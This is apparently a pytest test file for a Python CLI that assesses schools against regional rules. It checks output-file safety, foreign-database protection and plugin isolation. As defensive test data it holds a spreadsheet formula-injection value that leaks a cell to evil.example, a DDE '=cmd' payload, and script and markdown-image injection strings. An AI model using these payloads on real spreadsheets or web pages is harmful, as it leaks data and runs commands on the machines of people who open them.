"""Nothing lost, nothing smuggled, nothing hijacked: outputs never destroy
inputs, spreadsheet cells never become formulas, a database xinli did not
create is never touched, and one broken or impostor plugin never changes
another region's answer."""

from __future__ import annotations

import io
import json
import os
import sqlite3
import stat
from importlib import metadata
from pathlib import Path

import pytest
from fixture_plugins import Province
from test_assess_cli import filled_template, to_csv

from xinli.core import hookimpl
from xinli.core import registry as registry_module
from xinli.core.model import Jurisdiction

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def assessed(run, tmp_path, monkeypatch):
    """A records database holding one Henan run of two schools whose id and
    name are hostile text."""
    monkeypatch.chdir(tmp_path)
    header, rows = filled_template(run)
    rows = rows[:2]
    rows[0][0], rows[0][1] = "=1+1", EVIL
    rows[1][1] = "<script>alert(1)</script> ![x](http://evil.example/p.png) # 标题 | a |"
    Path("facts.csv").write_text(to_csv(header, rows), encoding="utf-8")
    result = run("assess", "--region", "henan", "--facts", "facts.csv", "--db", "r.db", "--as-of", "2026-11-01")
    assert result.exit_code == 0, result.output
    return tmp_path


# ---------------------------------------------------------------- outputs


def test_new_outputs_are_0644_and_the_records_database_0600(run, assessed):
    os.umask(0o022)
    assert stat.S_IMODE(os.stat("r.db").st_mode) == 0o600
    assert run("report", "--db", "r.db", "--format", "json", "--output", "r.json").exit_code == 0
    assert stat.S_IMODE(os.stat("r.json").st_mode) == 0o644


def test_an_existing_output_keeps_its_mode_and_a_symlink_is_never_written_through(run, assessed):
    assert run("report", "--db", "r.db", "--output", "real.md").exit_code == 0
    os.chmod("real.md", 0o640)
    assert run("report", "--db", "r.db", "--output", "real.md").exit_code == 0
    assert stat.S_IMODE(os.stat("real.md").st_mode) == 0o640
    before = Path("real.md").read_bytes()
    os.symlink("real.md", "link.md")
    refused = run("report", "--db", "r.db", "--output", "link.md", "--force")
    assert refused.exit_code == 2 and "link.md" in refused.output and "符号链接" in refused.output
    assert os.path.islink("link.md") and Path("real.md").read_bytes() == before


def test_previous_output_of_the_same_kind_is_replaced_and_force_replaces_others(run, assessed):
    assert run("report", "--db", "r.db", "--format", "json", "--output", "r.json").exit_code == 0
    assert run("report", "--db", "r.db", "--format", "json", "--output", "r.json").exit_code == 0
    Path("notes.txt").write_text("mine", encoding="utf-8")
    refused = run("report", "--db", "r.db", "--format", "json", "--output", "notes.txt")
    assert refused.exit_code == 2 and "notes.txt" in refused.output
    assert Path("notes.txt").read_text(encoding="utf-8") == "mine"
    forced = run("report", "--db", "r.db", "--format", "json", "--output", "notes.txt", "--force")
    assert forced.exit_code == 0
    assert json.loads(Path("notes.txt").read_text(encoding="utf-8"))["run"]["id"] == 1


def test_facts_template_replaces_only_an_identical_template(run, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert run("facts-template", "--region", "henan", "--output", "t.csv").exit_code == 0
    assert run("facts-template", "--region", "henan", "--output", "t.csv").exit_code == 0
    with open("t.csv", "a", encoding="utf-8") as handle:
        handle.write("S1,一中,1-6\n")
    refused = run("facts-template", "--region", "henan", "--output", "t.csv")
    assert refused.exit_code == 2 and "t.csv" in refused.output
    assert Path("t.csv").read_text(encoding="utf-8").endswith("S1,一中,1-6\n")


def test_facts_template_xlsx_replaces_an_unfilled_template_only(run, tmp_path, monkeypatch):
    openpyxl = pytest.importorskip("openpyxl")
    monkeypatch.chdir(tmp_path)
    assert run("facts-template", "--region", "henan", "--format", "xlsx", "--output", "t.xlsx").exit_code == 0
    assert run("facts-template", "--region", "henan", "--format", "xlsx", "--output", "t.xlsx").exit_code == 0
    workbook = openpyxl.load_workbook("t.xlsx")
    workbook["事实填报"].append(["S1", "一中", "1-6"])
    workbook.save("t.xlsx")
    refused = run("facts-template", "--region", "henan", "--format", "xlsx", "--output", "t.xlsx")
    assert refused.exit_code == 2 and "t.xlsx：文件已存在，可能是已填写的事实文件" in refused.output
    assert openpyxl.load_workbook("t.xlsx")["事实填报"]["A2"].value == "S1"


def test_write_errors_name_the_users_path_not_a_temporary_file(run, assessed):
    os.mkdir("locked")
    os.chmod("locked", 0o500)
    try:
        result = run("report", "--db", "r.db", "--output", "locked/r.md")
    finally:
        os.chmod("locked", 0o700)
    if os.geteuid() == 0:
        pytest.skip("root writes anywhere")
    assert result.exit_code == 2
    assert "locked/r.md: cannot write" in result.output and ".tmp" not in result.output


# ---------------------------------------------------------------- formulas and markup


def test_report_csv_neutralises_formulas(run, assessed):
    text = run("report", "--db", "r.db", "--format", "csv").stdout
    assert "'=1+1" in text and "'=HYPERLINK" in text
    import csv

    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_report_xlsx_writes_hostile_text_as_strings(run, assessed):
    openpyxl = pytest.importorskip("openpyxl")
    assert run("report", "--db", "r.db", "--format", "xlsx", "--output", "r.xlsx").exit_code == 0
    workbook = openpyxl.load_workbook("r.xlsx")
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert EVIL in [c.value for c in cells] and "=1+1" in [c.value for c in cells]


def test_checklist_csv_and_xlsx_neutralise_plugin_text():
    openpyxl = pytest.importorskip("openpyxl")
    from xinli.core.assessment.facts import FactColumns
    from xinli.core.registry import load_plugins
    from xinli.core.render.csv import render_csv
    from xinli.core.render.xlsx import render_checklist_xlsx
    from xinli.core.views.checklist import build_checklist

    checklist = build_checklist(load_plugins(only=["henan"]), "henan")
    checklist["items"][0]["text"]["zh"] = "=cmd|' /C calc'!A0"
    checklist["items"][0]["citation"]["quote"] = "@SUM(1+1)"
    text = render_csv(checklist)
    assert "'=cmd" in text and "'@SUM" in text
    workbook = openpyxl.load_workbook(io.BytesIO(render_checklist_xlsx(checklist, FactColumns([], []))))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "=cmd|' /C calc'!A0" in [c.value for c in cells]


def test_markdown_report_escapes_school_text(run, assessed):
    text = run("report", "--db", "r.db").stdout
    headings = [line for line in text.splitlines() if line.startswith("#")]
    assert all(not line.startswith("# ") or "评估报告" in line for line in headings)
    assert "<script>" not in text and "![x](" not in text
    assert r"\<script\>" in text


def test_html_report_escapes_school_text(run, assessed):
    text = run("report", "--db", "r.db", "--format", "html").stdout
    assert "<script>alert" not in text and "&lt;script&gt;" in text


# ---------------------------------------------------------------- databases


def test_records_database_carries_the_application_id(assessed):
    from xinli.core.records.database import APPLICATION_ID

    conn = sqlite3.connect("r.db")
    assert conn.execute("PRAGMA application_id").fetchone()[0] == APPLICATION_ID


def test_foreign_database_is_untouched_even_its_journal_mode(run, tmp_path, monkeypatch, english):
    monkeypatch.chdir(tmp_path)
    conn = sqlite3.connect("app.db")
    conn.execute("create table notes (text text)")
    conn.commit()
    conn.close()
    before = Path("app.db").read_bytes()
    for args in (["runs", "--db", "app.db"], ["report", "--db", "app.db"]):
        result = run(*args)
        assert result.exit_code == 2 and "app.db: not an xinli records database" in result.output
    assert Path("app.db").read_bytes() == before
    assert sorted(os.listdir(".")) == ["app.db"]
    conn = sqlite3.connect("app.db")
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "delete"


def test_read_commands_work_in_a_read_only_directory(run, assessed):
    if os.geteuid() == 0:
        pytest.skip("root ignores directory permissions")
    os.mkdir("ro")
    os.rename("r.db", "ro/r.db")
    os.chmod("ro", 0o500)
    try:
        listed = run("runs", "--db", "ro/r.db", "--format", "json")
        reported = run("report", "--db", "ro/r.db", "--format", "json")
    finally:
        os.chmod("ro", 0o700)
    assert listed.exit_code == 0, listed.output
    assert json.loads(listed.stdout)[0]["id"] == 1
    assert reported.exit_code == 0, reported.output


def test_ctrl_c_exits_130_and_writes_nothing(run, assessed, monkeypatch):
    from xinli.core.assessment import pipeline

    before = Path("r.db").read_bytes()

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(pipeline, "write_run", interrupted)
    Path("facts2.csv").write_text(Path("facts.csv").read_text(encoding="utf-8").replace("第2学校", "第二学校"),
                                  encoding="utf-8")
    from click.testing import CliRunner

    from xinli.cli.main import cli

    result = CliRunner().invoke(cli, ["assess", "--region", "henan", "--facts", "facts2.csv", "--db", "r.db"])
    assert result.exit_code == 130
    assert "已中断，未写入任何内容" in result.output  # zh by default
    english = CliRunner().invoke(cli, ["assess", "--region", "henan", "--facts", "facts2.csv", "--db", "r.db", "--lang", "en"])
    assert english.exit_code == 130
    assert "interrupted, nothing was written" in english.output
    assert Path("r.db").read_bytes() == before


# ---------------------------------------------------------------- plugins


class FakeDist:
    """What an entry point knows of its distribution: a name and a version."""

    def __init__(self, name: str) -> None:
        self.metadata = {"Name": name}
        self.version = "6.6.6"


def entry_point(name: str, value: str, dist: str) -> metadata.EntryPoint:
    return metadata.EntryPoint(name=name, value=value, group="xinli")._for(FakeDist(dist))


class Impostor:
    """Claims to be Henan with no rules at all."""

    @hookimpl
    def xinli_jurisdiction(self):
        return Jurisdiction(code="henan", name=("河南省", "Henan"), level="province",
                            documents=Province().xinli_jurisdiction().documents)


class MetricsFail:
    @hookimpl
    def xinli_jurisdiction(self):
        return Jurisdiction(code="test_metrics_fail", name=("坏", "Bad"), level="province",
                            documents=Province().xinli_jurisdiction().documents)

    @hookimpl
    def xinli_register_metrics(self):
        raise RuntimeError("metrics exploded")


class RuleFortyTwo(Province):
    @hookimpl
    def xinli_jurisdiction(self):
        jurisdiction = super().xinli_jurisdiction()
        return Jurisdiction(code="test_forty_two", name=("坏", "Bad"), level="province", documents=jurisdiction.documents)

    @hookimpl
    def xinli_curriculum_quotas(self):
        return 42


IMPOSTOR = Impostor()
METRICS_FAIL = MetricsFail()
RULE_FORTY_TWO = RuleFortyTwo()


@pytest.fixture
def installed(monkeypatch, tmp_path):
    """Add entry points to the installed ones: ``add(name, value, dist)``."""
    extra: list[metadata.EntryPoint] = []
    base = list(metadata.entry_points(group="xinli"))
    monkeypatch.setattr(registry_module.metadata, "entry_points", lambda group: base + extra)
    monkeypatch.syspath_prepend(str(tmp_path))

    def add(name: str, value: str, dist: str) -> None:
        extra.append(entry_point(name, value, dist))

    return add


def test_an_impostor_distribution_never_replaces_a_region(run, installed):
    installed("henan", "test_nothing_lost:IMPOSTOR", "evil-henan")
    result = run("checklist", "--region", "henan", "--format", "json")
    assert result.exit_code == 2
    assert "evil-henan" in result.output and "xinli" in result.output and "neither is used" in result.output
    assert "Traceback" not in result.output
    checked = run("plugins", "check", "--lang", "en")
    assert checked.exit_code == 1
    lines = [line for line in checked.output.splitlines() if line.startswith("error: henan")]
    assert len(lines) == 2 and any("evil-henan" in line for line in lines)
    fine = run("checklist", "--region", "nanchang", "--format", "json")
    assert fine.exit_code == 0


def test_code_at_distribution_chooses_one(run, installed, monkeypatch):
    installed("henan", "test_nothing_lost:IMPOSTOR", "evil-henan")
    real = run("checklist", "--region", "henan", "--format", "json", "--plugins", "henan@xinli")
    assert real.exit_code == 0 and json.loads(real.stdout)["items"]
    checked = run("plugins", "--plugins", "henan@xinli,nanchang", "check", "--lang", "en")
    assert checked.exit_code == 0, checked.output
    assert "2 plugin(s) checked: 0 problem(s)" in checked.output
    monkeypatch.setenv("XINLI_PLUGINS", "henan@evil-henan")
    fake = run("checklist", "--region", "henan", "--format", "json")
    assert fake.exit_code == 0 and json.loads(fake.stdout)["items"] == []


def test_system_exit_at_import_is_reported_and_dropped(run, installed, tmp_path, english):
    (tmp_path / "xinli_exits_at_import.py").write_text("import sys\nsys.exit('bye')\n", encoding="utf-8")
    installed("test_exits", "xinli_exits_at_import:PLUGIN", "exits")
    result = run("checklist", "--region", "henan", "--format", "json")
    assert result.exit_code == 0 and json.loads(result.stdout)["items"]
    assert "test_exits" not in result.stderr  # loaded lazily (issue 13): an unrelated plugin is never imported
    refused = run("checklist", "--region", "test_exits")
    assert refused.exit_code == 2 and "test_exits" in refused.output
    assert "plugin 'test_exits' (exits) was not loaded: import failed: SystemExit: bye" in refused.stderr


def test_failing_metrics_hook_drops_only_that_plugin(run, installed, tmp_path, monkeypatch, english):
    installed("test_metrics_fail", "test_nothing_lost:METRICS_FAIL", "bad-metrics")
    monkeypatch.chdir(tmp_path)

    class StdoutOnly:
        def __init__(self, *args):
            self.output = run(*args).stdout

    header, rows = filled_template(StdoutOnly)
    Path("facts.csv").write_text(to_csv(header, rows), encoding="utf-8")
    good = run("assess", "--region", "henan", "--facts", "facts.csv", "--db", "r.db")
    assert good.exit_code == 0, good.output
    assert "test_metrics_fail" not in good.stderr  # loaded lazily (issue 13): an unrelated plugin is never imported
    bad = run("facts-template", "--region", "test_metrics_fail")
    assert bad.exit_code == 2
    assert "plugin 'test_metrics_fail' (bad-metrics) was not loaded: xinli_register_metrics failed" in bad.stderr
    assert "test_metrics_fail" in bad.output and "metrics exploded" in bad.output and "Traceback" not in bad.output


def test_rule_hook_returning_the_wrong_type_is_named(run, installed):
    installed("test_forty_two", "test_nothing_lost:RULE_FORTY_TWO", "forty-two")
    bad = run("checklist", "--region", "test_forty_two")
    assert bad.exit_code == 2
    assert "plugin 'test_forty_two': xinli_curriculum_quotas returned int" in bad.output
    assert run("checklist", "--region", "henan").exit_code == 0


def test_read_only_open_falls_back_to_immutable_where_sqlite_cannot_create_the_wal_index(assessed, monkeypatch):
    from xinli.core.records import database

    real = database._connect
    uris = []

    def connect(uri, path):
        uris.append(uri)
        if "immutable" not in uri:
            raise sqlite3.OperationalError("unable to open database file")
        return real(uri, path)

    monkeypatch.setattr(database, "_connect", connect)
    monkeypatch.setattr(database.os, "access", lambda *a: False)
    db = database.open_database("r.db", create=False)
    assert db.execute("select count(*) from runs").fetchone()[0] == 1
    assert "mode=ro" in uris[0] and uris[-1].endswith("&immutable=1")
    with pytest.raises(sqlite3.OperationalError):
        db.execute("create table x (y)")


def test_cells_helpers_and_the_rollup_csv():
    from xinli.core.render.cells import md_text, neutralise
    from xinli.core.render.rollup import render_rollup_csv

    assert [neutralise(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx", "x=1", 5, -5, None)] == \
        ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "x=1", 5, -5, None]
    assert md_text("# a\n## b") == r"\# a \#\# b"
    assert md_text("![x](http://e)") == r"\!\[x\](http://e)"
    assert md_text("snake_case | <i>") == r"snake_case \| \<i\>"
    subregion = {"region": "test_c", "name": {"zh": "县", "en": "County"}, "source_file": "=HYPERLINK(1).db", "run_id": 1,
                 "as_of": "2026-11-01", "schools": 3, "required": {"met": 1, "not_met": 1, "unknown": 1}, "share_met": 0.5}
    text = render_rollup_csv({"rollup": {"id": 1}, "subregions": [subregion]})
    assert ",'=HYPERLINK(1).db," in text


EXAMPLES = Path(__file__).resolve().parent.parent / "examples"


@pytest.mark.parametrize("failure", [KeyboardInterrupt, "error"])
def test_an_interrupted_or_failed_first_assess_leaves_no_file(run, tmp_path, monkeypatch, failure):
    """Ctrl-C (exit 130) or an expected error (exit 2) while the schools are
    being assessed into a new database: no database file, no journal left."""
    from xinli.core.assessment import pipeline
    from xinli.core.errors import XinliError

    def stop(*args, **kwargs):
        raise failure() if failure is KeyboardInterrupt else XinliError("disk gave up")

    monkeypatch.setattr(pipeline, "evaluate_region", stop)
    db = tmp_path / "first.db"
    result = run("assess", "-r", "nanchang", "--facts", str(EXAMPLES / "nanchang-schools.csv"), "--db", str(db))
    assert result.exit_code == (130 if failure is KeyboardInterrupt else 2)
    assert sorted(p.name for p in tmp_path.iterdir()) == []
    # an existing database is kept as it was
    monkeypatch.undo()
    assert run("assess", "-r", "nanchang", "--facts", str(EXAMPLES / "nanchang-schools.csv"), "--db", str(db)).exit_code == 0
    before = db.read_bytes()
    monkeypatch.setattr(pipeline, "evaluate_region", stop)
    assert run("assess", "-r", "nanchang", "--facts", str(EXAMPLES / "nanchang-schools.csv"), "--db", str(db),
               "--as-of", "2026-09-01").exit_code in (2, 130)
    assert db.exists() and db.read_bytes() == before


def test_read_commands_never_create_a_database(run, tmp_path):
    for args in (("runs",), ("report",), ("report", "--format", "json"), ("serve", "--print-metadata")):
        result = run(*args, "--db", str(tmp_path / "typo.db"))
        assert result.exit_code == 2, args
        assert list(tmp_path.iterdir()) == [], args
